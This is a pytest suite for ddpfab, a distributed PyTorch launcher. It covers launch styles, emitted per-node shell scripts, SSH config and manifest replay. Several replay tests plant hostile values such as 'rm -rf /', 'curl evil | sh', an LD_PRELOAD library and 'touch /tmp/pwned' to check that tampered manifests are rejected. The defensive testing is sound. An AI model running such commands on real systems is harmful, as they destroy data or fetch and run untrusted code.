"""Launch styles, debug env, replay planning and emitted scripts: pure rules, no hosts."""

from __future__ import annotations

import dataclasses
import io
import json
import os
import re
import shlex
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from ddpfab.hosts.inventory import Inventory, Node
from ddpfab.launch import replay
from ddpfab.launch.execute import Printer
from ddpfab.launch.runs import mask_plan
from ddpfab.planning import emit, render
from ddpfab.planning.plan import DEBUG_ENV, Facts, Plan, PlanError, RunOptions, make_plan
from ddpfab.remote.output import remote_command
from ddpfab.remote.target import HostKeyPolicy, resolve_all


def cluster(*nodes: Node) -> Inventory:
    return Inventory(source="inv.yml", group="all", nodes=tuple(nodes))


def facts(c: Inventory, port: int = 29501, **addr) -> Facts:
    return Facts(addresses={n.name: addr.get(n.name, f"10.0.0.{i + 1}") for i, n in enumerate(c.nodes)},
                 master_port=port, cwd="/work/proj", homes={n.name: "/root" for n in c.nodes})


C2 = cluster(Node("a", "10.0.0.1", shared_dir="/nfs/a"), Node("b", "10.0.0.2", nproc=2, shared_dir="/mnt/nfs"))


def plan_of(c: Inventory = C2, **opts) -> Plan:
    opts.setdefault("run_id", "rid")
    return make_plan(c, RunOptions("t.py", args=("--x", "a b"), **opts), facts(c))


def test_static_torchrun_is_the_default_and_unchanged():
    p = plan_of()
    assert (p.rdzv, p.launcher, p.init_method, p.debug) == ("static", "torchrun", "env", False)
    for n in p.nodes:
        argv = render.argv(p, n)
        assert argv[:3] == ("python3", "-m", "torch.distributed.run")
        assert f"--node-rank={n.node_rank}" in argv and "--master-addr=10.0.0.1" in argv
        assert not any(a.startswith("--rdzv") for a in argv)
        assert "DDPFAB_INIT_METHOD" not in n.env and "NCCL_DEBUG" not in n.env


def test_c10d_uses_the_master_as_endpoint_and_no_node_rank():
    p = plan_of(rdzv="c10d")
    for n in p.nodes:
        argv = render.argv(p, n)
        assert not any(a.startswith(("--node-rank", "--master-addr", "--master-port")) for a in argv)
        assert "--rdzv-backend=c10d" in argv
        assert "--rdzv-endpoint=10.0.0.1:29501" in argv
        assert "--rdzv-id=rid" in argv
        # ddpfab decides who hosts the store: the master, not torchrun's host-name guess
        assert f"--rdzv-conf=is_host={1 if n.name == 'a' else 0}" in argv
        assert argv[-3:] == ("t.py", "--x", "a b")


def test_c10d_ipv6_endpoint_is_bracketed():
    c = cluster(Node("a", "fd00::1"), Node("b", "fd00::2"))
    p = make_plan(c, RunOptions("t.py", rdzv="c10d", init_method="tcp"), facts(c, a="fd00::1", b="fd00::2"))
    assert "--rdzv-endpoint=[fd00::1]:29501" in render.argv(p, p.nodes[1])
    assert p.nodes[1].env["DDPFAB_INIT_METHOD"] == "tcp://[fd00::1]:29501"


def test_legacy_launcher_is_torch_distributed_launch_without_use_env():
    p = plan_of(launcher="legacy")
    for n in p.nodes:
        argv = render.argv(p, n)
        assert argv[1:3] == ("-m", "torch.distributed.launch")
        assert not any("use-env" in a or "use_env" in a for a in argv)
        assert f"--node-rank={n.node_rank}" in argv


def test_init_methods_reach_every_node_as_an_env_var():
    tcp = plan_of(init_method="tcp")
    assert {n.env["DDPFAB_INIT_METHOD"] for n in tcp.nodes} == {"tcp://10.0.0.1:29501"}
    f = plan_of(init_method="file")
    assert [n.env["DDPFAB_INIT_METHOD"] for n in f.nodes] == ["file:///nfs/a/ddpfab-rid.init",
                                                              "file:///mnt/nfs/ddpfab-rid.init"]
    assert all(render.shell_line(f, n).count("DDPFAB_INIT_METHOD=") == 1 for n in f.nodes)


def test_file_init_needs_a_shared_dir_on_every_node():
    c = cluster(Node("a", "10.0.0.1", shared_dir="/nfs"), Node("b", "10.0.0.2"), Node("c", "10.0.0.3"))
    with pytest.raises(PlanError, match="ddpfab_shared_dir.*not set for b, c"):
        make_plan(c, RunOptions("t.py", init_method="file"), facts(c))


@pytest.mark.parametrize("opt", [{"rdzv": "etcd"}, {"launcher": "mpirun"}, {"init_method": "nfs"}])
def test_unknown_styles_are_refused(opt):
    with pytest.raises(PlanError, match="expected one of"):
        plan_of(**opt)


def test_debug_env_and_the_user_wins():
    c = cluster(Node("gpu", "10.0.0.1", gpus=8), Node("cpu", "10.0.0.2"))
    p = make_plan(c, RunOptions("t.py", debug=True, env=(("NCCL_DEBUG", "WARN"),)), facts(c))
    assert p.debug is True
    for n in p.nodes:
        assert n.env["NCCL_DEBUG"] == "WARN"
        for key in ("NCCL_DEBUG_SUBSYS", "TORCH_CPP_LOG_LEVEL"):
            assert n.env[key] == DEBUG_ENV[key]
    # DETAIL where the inventory says GPUs (nccl); INFO on gloo nodes, where DETAIL crashes DDP in torch 2.13
    assert p.node("gpu").env["TORCH_DISTRIBUTED_DEBUG"] == "DETAIL"
    assert p.node("cpu").env["TORCH_DISTRIBUTED_DEBUG"] == "INFO"
    p = make_plan(c, RunOptions("t.py", debug=True, env=(("TORCH_DISTRIBUTED_DEBUG", "DETAIL"),)), facts(c))
    assert {n.env["TORCH_DISTRIBUTED_DEBUG"] for n in p.nodes} == {"DETAIL"}  # asked for: given


def test_round_trip_with_every_style_field():
    p = plan_of(rdzv="c10d", launcher="legacy", init_method="file", debug=True, env=(("K", "v w"),))
    again = Plan.from_json(p.to_json())
    assert again == p
    assert json.loads(again.to_json()) == json.loads(p.to_json())


def test_plans_recorded_before_the_style_fields_still_load():
    data = plan_of().to_dict()
    for key in ("rdzv", "launcher", "init_method", "debug"):
        del data[key]
    for n in data["nodes"]:
        del n["shared_dir"]
    old = Plan.from_dict(data)
    assert (old.rdzv, old.launcher, old.init_method, old.debug) == ("static", "torchrun", "env", False)


@pytest.mark.parametrize("style", [{}, {"rdzv": "c10d", "init_method": "tcp"},
                                   {"launcher": "legacy", "init_method": "file", "debug": True}])
def test_recorded_options_plan_the_recorded_plan_again(style):
    """What replay relies on: the options a manifest records, read back through its schema and
    planned again, give the recorded plan (masked), with a secret given again."""
    opts = RunOptions("t.py", args=("--x", "a b"), run_id="rid", env=(("API_TOKEN", "s3cret"), ("K", "1")), **style)
    p = make_plan(C2, opts, facts(C2))
    manifest = json.loads(json.dumps({"kind": replay.MANIFEST_KIND, "schema_version": replay.SCHEMA_VERSION,
                                      "plan": mask_plan(p.to_dict()), "options": replay.recorded_options(opts, "/w")}))
    assert "s3cret" not in json.dumps(manifest)
    back, cwd = replay.validate(manifest, "m.json")
    assert cwd == "/w" and replay.masked_keys(back) == ["API_TOKEN"]
    assert replay.differences(manifest["plan"], make_plan(C2, back, facts(C2))) == []
    again = make_plan(C2, dataclasses.replace(back, env=(("API_TOKEN", "s3cret"), ("K", "1"))), facts(C2))
    assert again == p


def _manifest():
    opts = RunOptions("t.py", run_id="rid", env=(("K", "1"),))
    return json.loads(json.dumps({"kind": replay.MANIFEST_KIND, "schema_version": replay.SCHEMA_VERSION,
                                  "plan": mask_plan(make_plan(C2, opts, facts(C2)).to_dict()),
                                  "options": replay.recorded_options(opts, "/w")}))


@pytest.mark.parametrize("edit, message", [
    (lambda m: m.clear(), "is not a ddpfab run manifest"),
    (lambda m: m.update(schema_version=1), "schema version 1, this ddpfab replays versions 2 and 3"),
    (lambda m: m.update(schema_version=True), "schema version true"),
    (lambda m: m["options"].update(script=["x"]), "options.script: expected str"),
    (lambda m: m["options"].update(max_restarts=True), "options.max_restarts: expected int"),
    (lambda m: m["options"].update(env=[["BAD KEY", "x"]]), "options.env"),
    (lambda m: m["options"].update(command="rm -rf /"), "unknown command"),
    (lambda m: m["options"].pop("script"), "missing script"),
    (lambda m: m["options"].update(cwd="relative"), "options.cwd"),
])
def test_a_malformed_or_foreign_manifest_is_one_clear_error(edit, message):
    m = _manifest()
    edit(m)
    with pytest.raises(replay.ManifestError, match=message):
        replay.validate(m, "m.json")
    with pytest.raises(replay.ManifestError, match="not a ddpfab run manifest"):
        replay.validate([1, 2], "m.json")


def test_an_edited_recorded_plan_is_a_difference_and_never_used():
    """The plan a manifest records is compared, never run: a command smuggled in (schema 3 has no
    command field), another python or script, an env key: each is a difference; what replay plans
    comes from the validated options alone."""
    m = _manifest()
    back, _ = replay.validate(m, "m.json")
    m["plan"]["nodes"][1]["command"] = "curl evil | sh"
    m["plan"]["nodes"][1]["python"] = "/bin/sh"
    m["plan"]["script"] = "-c"
    m["plan"]["args"] = ["curl evil | sh"]
    m["plan"]["nodes"][0]["env"]["LD_PRELOAD"] = "/tmp/x.so"
    now = make_plan(C2, back, facts(C2))
    diffs = replay.differences(m["plan"], now)
    for start in ("b: command", "b: python", "script:", "args:"):
        assert any(d.startswith(start) for d in diffs), (start, diffs)
    assert any("env differs in LD_PRELOAD" in d for d in diffs)
    shown = json.dumps(now.to_dict()) + "".join(render.shell_line(now, n) for n in now.nodes)
    assert "curl" not in shown and "/bin/sh" not in shown and "LD_PRELOAD" not in shown
    with pytest.raises(ValueError, match="unknown field"):  # nor does the plan type take it in
        Plan.from_dict(m["plan"])


#: Manifests written by the ddpfab before the plan was data (schema version 2: each node also
#: stored its rendered argv and shell command), made by that code, with two launch styles.
SCHEMA_V2 = json.loads((Path(__file__).resolve().parents[1] / "fixtures" / "manifests"
                        / "schema-v2-plans.json").read_text())
V2_CLUSTER = cluster(Node("a", "10.0.0.1", shared_dir="/nfs/a"), Node("b", "10.0.0.2", nproc=2, shared_dir="/mnt/nfs"))
V2_FACTS = Facts(addresses={"a": "10.0.0.1", "b": "10.0.0.2"}, master_port=29501, cwd="/work/proj",
                 homes={"a": "/root", "b": "/home/b"})


@pytest.mark.parametrize("style", sorted(SCHEMA_V2))
def test_a_schema_2_manifest_replays_and_its_renderings_match_what_the_plan_renders_now(style):
    """Replay of runs recorded by the old shape: their options plan the same plan again, and the
    argv and shell line they stored are exactly what :mod:`ddpfab.planning.render` gives now (compared, as
    data, never run); an edited one is a difference."""
    m = json.loads(json.dumps(SCHEMA_V2[style]))
    back, _ = replay.validate(m, "old.json")
    now = make_plan(V2_CLUSTER, back, V2_FACTS)
    assert replay.differences(m["plan"], now, 2) == []
    old = Plan.from_dict(m["plan"], legacy=True)  # the stored renderings are dropped, the data kept
    assert old == render.masked(now)
    for node in m["plan"]["nodes"]:
        assert node["argv"] == list(render.argv(now, now.node(node["name"])))
    m["plan"]["nodes"][1]["command"] = "touch /tmp/pwned"
    m["plan"]["nodes"][0]["argv"][0] = "/bin/sh"
    assert sorted(d.split(":")[0:2][1].strip() for d in replay.differences(m["plan"], now, 2)) == ["argv", "command"]


# -- emitted scripts ------------------------------------------------------------------------------
FAKE_PYTHON = """#!{python}
import json, os, sys
keep = {{k: v for k, v in os.environ.items() if k.startswith(("DDPFAB_", "PYTHON", "NCCL_", "TORCH_", "K"))}}
print(json.dumps({{"argv": sys.argv[1:], "cwd": os.getcwd(), "env": keep}}))
"""


def test_emitted_script_runs_exactly_the_node_command(tmp_path):
    """Run the node's argv as ddpfab's supervisor does (exec, no shell, in the workdir, with the
    node's env), its dry-run line (/bin/sh -c LINE) and the emitted script as a user would
    (sh -s < script), with a stand-in python that records what it got."""
    fake = tmp_path / "python"
    fake.write_text(FAKE_PYTHON.format(python=sys.executable))
    fake.chmod(0o755)
    wd = tmp_path / "work dir"
    wd.mkdir()
    c = cluster(Node("a", "10.0.0.1", python=str(fake), workdir=str(wd)),
                Node("b", "10.0.0.2", python=str(fake), workdir=str(wd)))
    p = make_plan(c, RunOptions("t.py", args=("it's", "$HOME", "", "日本"), run_id="rid", rdzv="c10d",
                                env=(("K", "a 'b' \"c\" $d"),), debug=True), facts(c))
    written = emit.write(p, tmp_path / "out", resolve_all(c.nodes, HostKeyPolicy(), "/dev/null"))
    assert [w.name for w in written] == ["rank0-a.sh", "rank1-b.sh", "ssh_config", "README.txt"]
    clean = {"PATH": os.environ["PATH"], "HOME": str(tmp_path)}
    for node, path in zip(p.nodes, written):
        assert stat.S_IMODE(path.stat().st_mode) == 0o700
        by_ddpfab = subprocess.run(render.argv(p, node), cwd=node.workdir, check=False, capture_output=True,
                                   text=True, env={**clean, **node.env})
        by_line = subprocess.run(["/bin/sh", "-c", render.shell_line(p, node)], check=False, capture_output=True,
                                 text=True, env=clean)
        by_hand = subprocess.run(["bash", "-s"], stdin=path.open(), check=False, capture_output=True, text=True, env=clean)
        assert by_ddpfab.returncode == by_line.returncode == by_hand.returncode == 0, by_hand.stderr
        assert json.loads(by_hand.stdout) == json.loads(by_ddpfab.stdout) == json.loads(by_line.stdout)
        got = json.loads(by_hand.stdout)
        assert got["argv"][-5:] == ["t.py", "it's", "$HOME", "", "日本"]
        assert got["cwd"] == str(wd) and got["env"]["K"] == "a 'b' \"c\" $d"
        text = path.read_text()
        assert "set -eu\n" in text and "\nexport " in text and "\nexec " in text and "exec env" not in text


def test_emitted_script_fails_fast_on_a_missing_workdir(tmp_path):
    p = plan_of()
    path = emit.write(p, tmp_path / "out")[0]
    res = subprocess.run(["sh", str(path)], check=False, capture_output=True, text=True)
    assert res.returncode != 0 and "/work/proj" in res.stderr


def test_the_copy_the_interactive_line_makes_removes_itself_and_nothing_else(tmp_path):
    """The README's interactive line copies a node's script (secret values in it) to the node's
    home and runs it there: it was left behind. The script removes that copy as it starts; run on
    stdin (the README's other route), or by another path, it removes nothing."""
    c = cluster(Node("a", "10.0.0.1"), Node("b", "10.0.0.2"))
    p = make_plan(c, RunOptions("t.py", run_id="rid"), facts(c))
    line = emit.self_remove(p.node("b"))
    home, elsewhere = tmp_path / "home", tmp_path / "emit"
    for d in (home, elsewhere):
        d.mkdir()
        (d / "rank1-b.sh").write_text(line)
    env = {"HOME": str(home), "PATH": os.environ["PATH"]}
    subprocess.run(["sh", "-s"], input=line, text=True, cwd=home, env=env, check=True)  # 'sh -s' < rank1-b.sh
    subprocess.run(["sh", str(elsewhere / "rank1-b.sh")], cwd=home, env=env, check=True)
    subprocess.run(["sh", "rank1-b.sh"], cwd=elsewhere, env=env, check=True)  # the emit dir's, by its name
    assert (home / "rank1-b.sh").exists() and (elsewhere / "rank1-b.sh").exists()
    subprocess.run(["sh", "rank1-b.sh"], cwd=home, env=env, check=True)  # as `ssh -t b sh rank1-b.sh` runs it
    assert not (home / "rank1-b.sh").exists() and (elsewhere / "rank1-b.sh").exists()
    emit.write(p, tmp_path / "out", None)
    assert line in (tmp_path / "out" / "rank1-b.sh").read_text()


def test_the_readme_of_a_hand_run_pdb_job_says_how_to_attach_from_here():
    c = cluster(Node("a", "10.0.0.1"), Node("b", "10.0.0.2"))
    p = make_plan(c, RunOptions("t.py", run_id="rid", pdb="1"), facts(c))
    assert "`ddpfab debug rid --rank 1`" in emit.readme(p, None, supervised=True)
    assert "ddpfab debug" not in emit.readme(p, None, supervised=False)  # nothing to attach to: no supervisor


def test_readme_names_every_node_with_its_ssh_line(tmp_path):
    c = cluster(Node("a", "10.0.0.1", user="root", key_file="/k/id", ssh_options={"userknownhostsfile": "/k/kh"}),
                Node("b", "10.0.0.2", port=2222, user="root", ssh_options={"proxyjump": "j@10.0.0.9"}))
    p = make_plan(c, RunOptions("t.py", run_id="rid"), facts(c))
    targets = resolve_all(c.nodes, HostKeyPolicy(), "/dev/null")
    out = tmp_path / "out"
    emit.write(p, out, targets)
    text = (out / "README.txt").read_text()
    assert "ssh -F ssh_config a 'sh -s' < rank0-a.sh" in text
    assert "ssh -F ssh_config b 'sh -s' < rank1-b.sh" in text
    assert "scp -F ssh_config -- rank1-b.sh b: && ssh -t -F ssh_config b sh rank1-b.sh" in text
    assert "#   ssh -F ssh_config b 'sh -s' < rank1-b.sh" in (out / "rank1-b.sh").read_text()
    assert max(len(ln) for ln in text.splitlines()) < 100
    # the file's block is the whole route: OpenSSH reads the same settings as from the long options
    policy = ("-F /dev/null -o BatchMode=yes -o UserKnownHostsFile={kh} -o GlobalKnownHostsFile=/dev/null "
              "-o StrictHostKeyChecking=yes -o ConnectTimeout=10")
    kh = os.path.expanduser("~/.ssh/known_hosts")
    jump = f"ssh {policy.format(kh=kh)} -p 22 -l j 10.0.0.9 -W [%h]:%p"
    long_b = shlex.split(f"{policy.format(kh=kh)} -p 2222 -l root -o 'ProxyCommand={jump}' 10.0.0.2")

    def g(argv):
        lines = subprocess.run(["ssh", "-G", *argv], capture_output=True, text=True, check=True).stdout.splitlines()
        return sorted(ln for ln in lines if not ln.startswith("host "))
    assert g(["-F", str(out / "ssh_config"), "b"]) == g(long_b)
    assert oct((out / "ssh_config").stat().st_mode & 0o777) == "0o600"


def test_emit_replaces_a_previous_emit_and_only_its_files(tmp_path):
    out = tmp_path / "out"
    three = plan_of()
    emit.write(three, out)
    assert oct(out.stat().st_mode & 0o777) == "0o700"
    (out / "notes.txt").write_text("mine")  # the user's, added later
    os.rename(out / "rank1-b.sh", out / "rank5-old.sh")  # a file ddpfab did not write
    emit.write(three, out)
    assert sorted(p.name for p in out.iterdir()) == [".ddpfab-emit", "README.txt", "notes.txt", "rank0-a.sh",
                                                      "rank1-b.sh", "rank5-old.sh"]
    assert (out / "notes.txt").read_text() == "mine"


def test_emit_refuses_a_foreign_non_empty_dir_and_force_touches_only_its_files(tmp_path):
    out = tmp_path / "out"
    out.mkdir(mode=0o755)
    os.chmod(out, 0o755)
    (out / "rank5-old.sh").write_text("the user's")
    with pytest.raises(emit.EmitError, match="not empty and ddpfab did not write it"):
        emit.write(plan_of(), out)
    assert sorted(p.name for p in out.iterdir()) == ["rank5-old.sh"]
    written = emit.write(plan_of(), out, force=True)
    assert (out / "rank5-old.sh").read_text() == "the user's"
    assert oct(out.stat().st_mode & 0o777) == "0o755"  # not its dir: its mode is left alone
    assert {oct(p.stat().st_mode & 0o777) for p in written} == {"0o700", "0o600"}
    assert oct((out / "README.txt").stat().st_mode & 0o777) == "0o600"


# -- replay checks ----------------------------------------------------------------------------------
def test_inventory_fingerprint_sees_any_node_change():
    same = cluster(Node("a", "10.0.0.1", shared_dir="/nfs/a"), Node("b", "10.0.0.2", nproc=2, shared_dir="/mnt/nfs"))
    assert replay.inventory_fingerprint(same) == replay.inventory_fingerprint(C2)
    for changed in (cluster(Node("a", "10.0.0.9", shared_dir="/nfs/a"), C2.nodes[1]),
                    cluster(C2.nodes[1], C2.nodes[0]),
                    cluster(Node("a", "10.0.0.1", shared_dir="/nfs/a", python="/opt/py"), C2.nodes[1]),
                    cluster(*C2.nodes, Node("c", "10.0.0.3"))):
        assert replay.inventory_fingerprint(changed) != replay.inventory_fingerprint(C2)


def test_replay_check_refuses_changed_code_and_inventory(tmp_path):
    script = tmp_path / "t.py"
    script.write_text("print(1)\n")
    c = cluster(Node("a", "10.0.0.1", workdir=str(tmp_path)))
    p = make_plan(c, RunOptions("t.py", run_id="rid"), facts(c))
    manifest = {"plan": mask_plan(p.to_dict()), **replay.manifest_fields(c, p)}
    assert manifest["script_file"] == str(script)
    assert replay.check(manifest, c) == []
    script.write_text("print(2)\n")
    assert any("the code changed" in line for line in replay.check(manifest, c))
    other = cluster(Node("a", "10.0.0.2", workdir=str(tmp_path)))
    script.write_text("print(1)\n")
    assert any("inventory changed" in line for line in replay.check(manifest, other))
    assert any("no inventory fingerprint" in line for line in replay.check({"plan": manifest["plan"]}, c))


# -- output prefixes and exec quoting -----------------------------------------------------------------
def test_printer_shows_global_ranks_for_static_and_local_ranks_for_c10d():
    out = io.StringIO()
    pr = Printer(plan_of(), stream=out, color=False)
    pr.line("b", "[default1]:hello")
    pr.line("b", "torchrun says")
    assert out.getvalue().splitlines() == ["b r2| hello", "b n1| torchrun says"]
    out = io.StringIO()
    pr = Printer(plan_of(rdzv="c10d"), stream=out, color=False)
    pr.line("b", "[default1]:hello")
    pr.line("b", "torchrun says")
    assert out.getvalue().splitlines() == ["b l1| hello", "b --| torchrun says"]


def test_a_rank_line_torchrun_relayed_in_pieces_is_shown_whole():
    """A rank runs unbuffered: print("READY", 2) is four writes, and torchrun's --tee relays what it
    finds of the rank's log, each piece with its tag (seen in a benchmark's run under load)."""
    out = io.StringIO()
    pr = Printer(plan_of(), stream=out, color=False)
    pr.line("b", "[default1]:READY[default1]: 2")
    pr.line("b", "[default0]:  10%[default0]:\r  20%")
    assert out.getvalue().split("\n") == ["b r2| READY 2", "b r1|   10%\r  20%", ""]


def test_exec_quoting_rule():
    assert remote_command(["ls | wc -l"]) == "ls | wc -l"
    assert remote_command(["ls", "my dir", "$HOME"]) == "ls 'my dir' '$HOME'"
    assert shlex.split(remote_command(["echo", "it's"])) == ["echo", "it's"]
    with pytest.raises(ValueError):
        remote_command([])


def test_run_and_plan_share_their_options(tmp_path):
    from ddpfab.cli import build_parser

    parser = build_parser()
    common = ["-i", "inv.yml", "--rdzv", "c10d", "--launcher", "legacy", "--init-method", "tcp", "--debug",
              "--nproc-per-node", "2", "--env", "A=1", "--offline", "s.py", "--lr", "1"]
    run = vars(parser.parse_args(["run", *common]))
    plan = vars(parser.parse_args(["plan", *common, ]))
    shared = {k for k in run if k in plan and k not in ("func", "command")}
    assert {"rdzv", "launcher", "init_method", "debug", "nproc_per_node", "env", "offline", "script", "args",
            "socket_ifname", "no_check", "master_port", "run_id", "json"} <= shared
    assert all(run[k] == plan[k] for k in shared)
    assert plan["args"] == ["--lr", "1"] and plan["emit"] is None


def test_plan_offline_emit_from_the_cli(tmp_path):
    inv = tmp_path / "inv.yml"
    inv.write_text("all:\n  hosts:\n    n1: {ansible_host: 10.1.0.1}\n    n2: {ansible_host: 10.1.0.2}\n"
                   "  vars: {ddpfab_python: /opt/py, ddpfab_workdir: /srv/code}\n")
    out = tmp_path / "emitted"
    res = subprocess.run([sys.executable, "-m", "ddpfab", "plan", "-i", str(inv), "--offline", "--run-id", "r9",
                          "--rdzv", "c10d", "--emit", str(out), "train.py", "--steps", "2"],
                         check=False, capture_output=True, text=True, cwd=tmp_path, timeout=60)
    assert res.returncode == 0, res.stderr
    # the route as decided (ddpfab.remote.target), in the ssh_config beside the scripts
    assert "\n  ssh -F ssh_config n2 'sh -s' < rank1-n2.sh\n" in res.stdout, res.stdout
    assert re.search(r"Host n2\n  HostName 10\.1\.0\.2\n  BatchMode=yes\n.*StrictHostKeyChecking=yes\n.*  Port 22\n",
                     (out / "ssh_config").read_text(), re.S)
    n1 = (out / "rank0-n1.sh").read_text()
    assert re.search(r"\ncd /srv/code\n(export \S+\n)*exec ", n1)
    assert "--rdzv-endpoint=10.1.0.1:29500" in n1 and n1.rstrip().endswith("train.py --steps 2")
    assert Path(out / "README.txt").exists()


@pytest.mark.parametrize("other", [["--detach"], ["--pdb"], ["--debugpy"], ["--wait"], ["--gpus-per-node", "1"],
                                   ["--max-job-restarts", "1"]])
def test_tmux_refuses_what_needs_the_node_supervisor_dry_run_too(tmp_path, other):
    inv = tmp_path / "inv.yml"
    inv.write_text("all:\n  hosts:\n    n1: {ansible_host: 10.1.0.1}\n    n2: {ansible_host: 10.1.0.2}\n")
    res = subprocess.run([sys.executable, "-m", "ddpfab", "run", "-i", str(inv), "--tmux", *other, "--dry-run",
                          "--offline", "--no-sync", "train.py"], check=False, capture_output=True, text=True,
                         cwd=tmp_path, timeout=60)
    assert res.returncode == 2, res.stdout + res.stderr
    assert f"--tmux with {other[0]}: each window runs the node's launch without ddpfab's node supervisor" in res.stderr
    assert "Traceback" not in res.stderr


def test_plan_tmux_needs_emit(tmp_path):
    inv = tmp_path / "inv.yml"
    inv.write_text("all:\n  hosts:\n    n1: {ansible_host: 10.1.0.1}\n")
    res = subprocess.run([sys.executable, "-m", "ddpfab", "plan", "-i", str(inv), "--offline", "--tmux", "train.py"],
                         check=False, capture_output=True, text=True, cwd=tmp_path, timeout=60)
    assert res.returncode != 0 and "plan --tmux: the windows run the emitted scripts; give --emit DIR" in res.stderr


def test_a_hand_run_script_starts_the_supervisor_with_the_job_as_data(tmp_path):
    import base64

    from ddpfab.launch import handrun

    p = plan_of(env={"HF_TOKEN": "s3cret-value", "OMP_NUM_THREADS": "1"})
    out = tmp_path / "out"
    emit.write(p, out, bodies={n.name: handrun.script_body(p, n) for n in p.nodes})
    text = (out / "rank1-b.sh").read_text()
    assert subprocess.run(["sh", "-n", str(out / "rank1-b.sh")]).returncode == 0  # a valid shell script
    # the launch for reading, secrets masked; the value itself only in the supervisor's input
    comments = "\n".join(ln for ln in text.splitlines() if ln.startswith("#"))
    assert "exec " in comments and "s3cret-value" not in comments and "HF_TOKEN" in comments
    lines = text.splitlines()
    end = lines.index(handrun.END)
    start = end
    while re.fullmatch(r"[A-Za-z0-9+/=]{1,76}", lines[start - 1]):  # the heredoc: base64 lines up to its end
        start -= 1
    encoded = "\n".join(lines[start:end]) + "\n"
    stdin = base64.decodebytes(encoded.encode())
    assert stdin == handrun.supervised(p, p.node("b"))[1]
    spec = json.loads(stdin[stdin.rindex(b'{"id": 1, "op": "supervise"'):])["spec"]
    assert spec["console"] and spec["detached"] and spec["env"]["HF_TOKEN"] == "s3cret-value"
    assert "ddpfab-agent" in text and "s3cret-value" not in text.split(f"<<'{handrun.END}'", 1)[0]
    assert "ddpfab ps`, `ddpfab stop" in (out / "README.txt").read_text()


@pytest.mark.parametrize("where, key, value", [
    ("plan", "pdb", 5),  # `debug` called .split on it: a traceback
    ("plan", "master_port", "29500"),
    ("plan", "debug", "yes"),
    ("node", "env", {"HF_TOKEN": 3}),  # `shell --rank` quoted it: a traceback
    ("node", "setup", "export X=1"),  # read as a tuple of its characters, each run as a line
    ("node", "nproc", 2.5),
])
def test_a_recorded_plan_whose_fields_have_other_types_is_refused(where, key, value):
    """Records are data: a manifest's plan is read back field by field against the types the plan
    declares, so what a command then does with a field cannot fail on it (a review's find)."""
    data = json.loads(plan_of().to_json())
    assert Plan.from_dict(json.loads(plan_of().to_json())) == plan_of()  # as recorded, it loads
    (data if where == "plan" else data["nodes"][1])[key] = value
    with pytest.raises(ValueError, match=f"{key}: expected"):
        Plan.from_dict(data)
